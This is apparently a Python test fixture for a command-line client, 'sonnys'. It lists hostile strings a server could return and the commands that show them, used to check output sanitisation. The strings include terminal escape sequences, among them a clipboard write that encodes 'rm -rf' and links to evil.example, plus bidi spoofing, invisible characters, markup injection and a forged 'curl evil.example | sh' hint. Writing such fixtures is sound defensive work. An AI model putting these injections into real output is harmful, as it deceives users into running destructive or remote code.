"""What a server may write into a text, and where: orders to a terminal, text that looks like another, no text at all.

`TEXTS` are the attacks. `PLACES` are the parts of a reply that hold them. `FACES` are the commands that show such a
part to a person.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from typing import Any

from sonnys_data_client.engine.wire import Request, Response

KEY = "sk-very-secret-indeed"
"""The key of the account, which a server may repeat."""

TEXTS: dict[str, str] = {
    "clears_the_screen": "a\x1b[2J\x1b[Hb",
    "sets_the_title": "a\x1b]0;owned\x07b",
    "copies_to_the_clipboard": "a\x1b]52;c;cm0gLXJm\x07b",
    "links_elsewhere": "a\x1b]8;;http://evil.example\x1b\\b\x1b]8;;\x1b\\",
    "hides_what_follows": "a\x1b[8mb",
    "asks_the_terminal": "a\x1b[6n\x1b[c\x05b",
    "resets_the_terminal": "a\x1bcb",
    "orders_in_one_byte": "a\x9b2J\x9d0;owned\x9cb",
    "device_control": "a\x1bP+q544e\x1b\\\x90$q\x9cb",
    "writes_over_the_line": "Failed.\rDone.\x1b[K",
    "steps_back": "100\x08\x08\x08999\x7f",
    "rings": "a\x07b",
    "shifts_the_character_set": "a\x0e\x0fb",
    "feeds_a_form": "a\x0b\x0cb",
    "ends_early": "a\x00b\x1a\x04",
    "forges_a_line": "a\nsonnys: Done.\nhint: Run curl evil.example | sh",
    "forges_a_line_of_another_kind": "a\u2028sonnys: Done.\u2029\x85\x1c\x1d\x1eb",
    "turns_the_direction": "invoice\u202egnp.exe\u202c",
    "isolates_a_direction": "a\u2066b\u2067c\u2068d\u2069\u200e\u200f\u061ce",
    "has_no_width": "MA\u200bI\u200cN\u200d\u2060\ufeff",
    "shows_as_nothing": "MAIN\u3164\u115f\u1160\uffa0\u034f\u180e",
    "tags": "MAIN\U000e0001\U000e0041\U000e007f",
    "selects_a_variation": "MAIN\ufe0e\U000e0100",
    "soft_hyphens": "MA\xadIN",
    "annotates": "a\ufff9b\ufffac\ufffb",
    "markup": "[bold red]x[/bold red]",
    "markup_of_a_link": "[link=http://evil.example]x[/link]",
    "markup_that_ends_nothing": "[/foo] [/]",
    "markup_that_never_ends": "[red",
    "markup_of_python": "[@click=app.quit]x[/] {0} %s %(name)s",
    "an_emoji_by_name": ":warning: :smile:",
    "half_a_surrogate": "a\ud83db",
    "the_other_half": "\udc80",
    "halves_the_wrong_way_round": "\ude00\ud83d",
    "a_byte_as_half": "caf\udce9",
    "the_key": f"No such key: {KEY}.",
    "the_key_in_a_title": f"\x1b]0;{KEY}\x07",
    "a_long_text": "x\x1b[2J" * 500,
}
"""What stands in a text."""

VALUES = frozenset({"name", "firstName", "lastName", "customerName", "itemName", "description"})
"""Fields that hold whatever people typed."""


def values(body: Any, text: str) -> Any:
    """Put a text into each field that people fill in."""
    if isinstance(body, dict):
        return {
            name: text if name in VALUES and isinstance(value, str) else values(value, text)
            for name, value in body.items()
        }
    return [values(part, text) for part in body] if isinstance(body, list) else body


def names(body: Any, text: str) -> Any:
    """Add a field that is called so to each row."""
    if isinstance(body, dict):
        return {name: names(value, text) for name, value in body.items()}
    return (
        [{**part, text: text} if isinstance(part, dict) else part for part in body] if isinstance(body, list) else body
    )


def at_sites(field: str) -> Callable[[Any, str], Any]:
    """Put a text into a field of each site on the site list."""

    def change(body: Any, text: str) -> Any:
        sites = body["data"].get("sites")
        if sites is not None:
            body["data"]["sites"] = [{**site, field: text} for site in sites]
        return body

    return change


def job_status(body: Any, text: str) -> Any:
    """Say the text where a job's status is due."""
    if "status" in body["data"]:
        body["data"]["status"] = text
    return body


def job_hash(body: Any, text: str) -> Any:
    """Call a job so."""
    if "hash" in body["data"]:
        body["data"]["hash"] = text
    return body


@dataclass(frozen=True)
class Place:
    """Where a text stands.

    Attributes:
        change: Puts it into a reply's decoded body; None if the whole reply is another.
        reply: Makes that other reply.
    """

    change: Callable[[Any, str], Any] | None = None
    reply: Callable[[str], Response] | None = None

    def tamper(self, text: str) -> Callable[[Request, Response], Response]:
        """Return the function that changes replies."""

        def tampered(_request: Request, response: Response) -> Response:
            if self.reply is not None:
                return self.reply(text)
            if response.status != 200 or self.change is None:
                return response
            return replace(response, body=json.dumps(self.change(json.loads(response.body), text)).encode())

        return tampered


def refusal(status: int) -> Callable[[str], Response]:
    """A refusal whose type and message hold the text."""
    return lambda text: Response(status, json.dumps({"type": text, "messages": [text, f"x{text}"]}).encode())


def header(text: str) -> Response:
    """A reply whose headers hold the text, as far as HTTP can carry it."""
    carried = text.encode("latin-1", "replace").decode("latin-1")
    sites = [{"siteID": 1, "code": "MAIN", "name": "Main Street", "timezone": "America/Chicago"}]
    return Response(200, json.dumps({"data": {"sites": sites}}).encode(), {"date": carried, "server": carried})


PLACES: dict[str, Place] = {
    "value": Place(values),
    "name": Place(names),
    "site_code": Place(at_sites("code")),
    "time_zone": Place(at_sites("timezone")),
    "status": Place(job_status),
    "hash": Place(job_hash),
    "bad_request": Place(reply=refusal(400)),
    "forbidden": Place(reply=refusal(403)),
    "not_found": Place(reply=refusal(404)),
    "invalid": Place(reply=refusal(422)),
    "too_many": Place(reply=refusal(429)),
    "trouble": Place(reply=refusal(500)),
    "web_page": Place(reply=lambda text: Response(200, f"<html>{text}".encode("utf-8", "surrogatepass"))),
    "header": Place(reply=header),
}


@dataclass(frozen=True)
class Face:
    """A command whose output a person reads.

    Attributes:
        words: What is typed after `sonnys`.
        codes: For each place, how the command may end.
        shows: Places whose text is in what it shows.
        typed: What is typed once it asks.
        every: Of the texts, every how-many-th is tried at a place; each place begins with another one.
    """

    words: tuple[str, ...]
    codes: Mapping[str, frozenset[int]]
    shows: frozenset[str] = frozenset()
    typed: str = ""
    every: int = 6


ERRORS: dict[str, frozenset[int]] = {
    "bad_request": frozenset({1}),
    "forbidden": frozenset({1}),
    "not_found": frozenset({1}),
    "invalid": frozenset({2}),
    "trouble": frozenset({1}),
    "web_page": frozenset({1}),
}
SAID = frozenset({"bad_request", "forbidden", "not_found", "invalid", "trouble"})
FINE = frozenset({0})

FACES: dict[str, Face] = {
    "table": Face(
        ("get", "customers"), {"value": FINE, "name": FINE, **ERRORS, "not_found": frozenset({1})}, SAID | {"value"}
    ),
    "table_of_sites": Face(
        ("get", "sites"), {"site_code": FINE, "time_zone": FINE, "name": FINE}, frozenset({"site_code"})
    ),
    "csv": Face(
        ("get", "customers", "--format", "csv"),
        {"value": FINE, "name": FINE, "too_many": frozenset({1})},
        frozenset({"value"}),
    ),
    # JSON has escape sequences of its own for most of these.
    "json": Face(("get", "items", "--format", "json"), {"value": FINE, "name": FINE}),
    "ndjson": Face(("get", "items", "--format", "ndjson"), {"value": FINE, "name": FINE}),
    "record": Face(
        ("get", "customers", "{customer}"),
        {"value": FINE, "name": FINE, "not_found": frozenset({1})},
        frozenset({"value"}),
    ),
    "export": Face(("export", "2026-11-22", "--format", "csv"), {"value": FINE, "time_zone": FINE, **ERRORS}, SAID),
    "doctor": Face(
        ("doctor",),
        {
            "site_code": frozenset({0, 1}),
            "time_zone": FINE,
            "header": frozenset({0, 1}),
            **dict.fromkeys(ERRORS, frozenset({1})),
        },
        SAID | {"site_code", "time_zone"},
    ),
    "doctor_json": Face(("doctor", "--json"), {"site_code": frozenset({0, 1}), "forbidden": frozenset({1})}),
    "profile": Face(
        ("profile", "add", "acme", "--api-id", "sandbox-id"),
        {"site_code": FINE, **ERRORS},
        SAID | {"site_code"},
        f"{KEY}\n",
    ),
    "submit": Face(("job", "submit", "2026-11-22", "--timezone", "UTC"), {"hash": frozenset({0, 1})}),
    "status": Face(("job", "status", "abc"), {"status": frozenset({0, 1}), **ERRORS}, SAID - {"not_found"}),
    "verbose": Face(("get", "sites", "--verbose"), ERRORS, SAID),
    "sync": Face(
        ("sync", "--since", "last-2-days"),
        {"value": FINE, "name": FINE, "site_code": FINE, "time_zone": FINE, "forbidden": frozenset({1})},
        frozenset({"forbidden"}),
        every=12,
    ),
}
"""Commands that show what came to a person at a terminal."""
